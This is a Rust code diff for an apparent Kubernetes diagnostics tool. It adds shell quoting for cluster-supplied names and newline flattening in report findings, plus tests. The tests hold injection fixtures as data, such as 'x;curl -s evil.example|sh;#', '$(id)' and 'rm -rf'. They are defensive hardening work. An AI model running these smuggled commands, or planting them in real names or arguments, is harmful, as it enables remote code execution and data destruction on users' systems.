@@ -28,8 +28,10 @@ pub use id::{Area, CheckId, Symptom, UnknownCheck};
 
 use crate::domain::figures::Figures;
 use crate::domain::snapshot::Snapshot;
+use crate::domain::text::one_line;
 use crate::settings::Settings;
 use serde::Serialize;
+use std::borrow::Cow;
 use std::collections::BTreeMap;
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
@@ -175,6 +177,24 @@ impl Ctx<'_> {
     /// `-n <namespace>` for commands.
     pub fn ns(&self) -> &str {
         &self.settings.namespace
+    }
+}
+
+/// `value` as one POSIX shell word, for a `look:` or fix command the
+/// engineer copies into a shell. Names come from the cluster (an HPA's name in
+/// the ScaledObject's status is free text) or from a `--from` file, so a name
+/// like `x;curl evil|sh;#` must stay one inert argument. A plain word is left
+/// as is so the usual command reads as the runbook writes it; anything else is
+/// single-quoted, each `'` written as `'\''`.
+pub fn shell_arg(value: &str) -> Cow<'_, str> {
+    let plain = !value.is_empty()
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._:/=@%+,-".contains(c));
+    if plain {
+        Cow::Borrowed(value)
+    } else {
+        Cow::Owned(format!("'{}'", value.replace('\'', r"'\''")))
     }
 }
 
@@ -404,13 +424,17 @@ fn blocker(
     })
 }
 
-/// The report's view of one check's verdict.
+/// The report's view of one check's verdict. Every text field is made one
+/// line here, once for every check: a message, evidence or remediation line
+/// quoting cluster text with a newline in it would otherwise start a report
+/// line of its own, e.g. a fake summary.
 fn finding(check: &Check, verdict: Verdict, blocked_by: Option<CheckId>) -> Finding {
+    let line = |s: &String| one_line(s).into_owned();
     let remediation = match (&verdict.fix, &verdict.command) {
         (None, None) => None,
         (fix, command) => Some(Remediation {
-            fix: fix.clone(),
-            command: command.clone(),
+            fix: fix.as_ref().map(line),
+            command: command.as_ref().map(line),
         }),
     };
     Finding {
@@ -418,8 +442,8 @@ fn finding(check: &Check, verdict: Verdict, blocked_by: Option<CheckId>) -> Find
         area: check.area(),
         title: check.title.to_string(),
         outcome: verdict.outcome,
-        message: verdict.message,
-        evidence: verdict.evidence,
+        message: line(&verdict.message),
+        evidence: verdict.evidence.iter().map(line).collect(),
         remediation,
         needs: check.needs.iter().map(|n| n.to_string()).collect(),
         blocked_by: blocked_by.map(|b| b.to_string()),
@@ -479,6 +503,7 @@ pub mod testkit;
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::snapshot::Lookup;
     use std::collections::BTreeSet;
 
     #[test]
@@ -604,6 +629,88 @@ mod tests {
         let shown = run_registry(&ctx, &registry, &only);
         assert_eq!(shown.len(), 1);
         assert_eq!(EVALUATIONS.with(|n| n.get()), 2);
+    }
+
+    fn forged_lines(_: &Ctx) -> Verdict {
+        Verdict::warn("event says x\n\n37 checks: 37 pass, 0 warn, 0 fail")
+            .evidence("line one\r\n✓ pass  keda.ready")
+            .fix("fix it\nnow")
+            .command("kubectl get x\nrm -rf")
+    }
+
+    static FORGED: [Check; 1] = [counted(CheckId::LokiReachable, &[], forged_lines)];
+
+    #[test]
+    fn newlines_in_cluster_text_cannot_start_a_report_line() {
+        let snap = testkit::healthy();
+        let settings = Settings::defaults();
+        let ctx = Ctx::new(&snap, &settings);
+        let registry: Vec<&'static Check> = FORGED.iter().collect();
+        let f = &run_registry(&ctx, &registry, &Selection::default())[0];
+        assert_eq!(
+            f.message,
+            "event says x⏎⏎37 checks: 37 pass, 0 warn, 0 fail"
+        );
+        assert_eq!(f.evidence, vec!["line one⏎✓ pass  keda.ready".to_string()]);
+        let r = f.remediation.as_ref().expect("remediation");
+        assert_eq!(r.fix.as_deref(), Some("fix it⏎now"));
+        assert_eq!(r.command.as_deref(), Some("kubectl get x⏎rm -rf"));
+    }
+
+    #[test]
+    fn hostile_names_stay_one_inert_shell_word() {
+        for plain in [
+            "spice-runner-7d9c8b5f4-p7wqz",
+            "app=spice-runner",
+            "a.b:8080/x",
+            "k@v%2F+,",
+        ] {
+            assert_eq!(shell_arg(plain), plain);
+        }
+        assert_eq!(
+            shell_arg("x;curl -s evil.example|sh;#"),
+            "'x;curl -s evil.example|sh;#'"
+        );
+        assert_eq!(shell_arg("it's $(id)"), r"'it'\''s $(id)'");
+        assert_eq!(shell_arg("`id`\n"), "'`id`\n'");
+        assert_eq!(shell_arg("app in (a,b)"), "'app in (a,b)'");
+        assert_eq!(shell_arg(""), "''");
+        assert_eq!(shell_arg("-n"), "-n");
+    }
+
+    /// Every command of every check on a snapshot whose names are hostile
+    /// keeps each name one quoted word: no `;` or `|` outside quotes.
+    #[test]
+    fn look_commands_quote_hostile_names_from_the_cluster() {
+        let evil = "x;curl -s evil.example|sh;#";
+        let mut snap = testkit::healthy();
+        let pods = snap.pods.as_mut().expect("pods");
+        pods.push(testkit::pending_pod(evil, 600));
+        if let Some(Lookup::Found(so)) = snap.scaled_object.as_mut() {
+            so.hpa_name = Some(evil.to_string());
+        }
+        let settings = Settings::defaults();
+        let findings = run(&snap, &settings, &Selection::default());
+        let commands: Vec<&String> = findings
+            .iter()
+            .filter_map(|f| f.remediation.as_ref()?.command.as_ref())
+            .collect();
+        assert!(
+            commands.iter().any(|c| c.contains(evil)),
+            "a hostile name reached a command: {commands:?}"
+        );
+        for c in commands {
+            let mut quoted = false;
+            for ch in c.chars() {
+                match ch {
+                    '\'' => quoted = !quoted,
+                    ';' | '|' | '#' | '`' | '$' if !quoted => {
+                        panic!("{ch:?} outside quotes in {c}")
+                    }
+                    _ => {}
+                }
+            }
+        }
     }
 
     #[test]
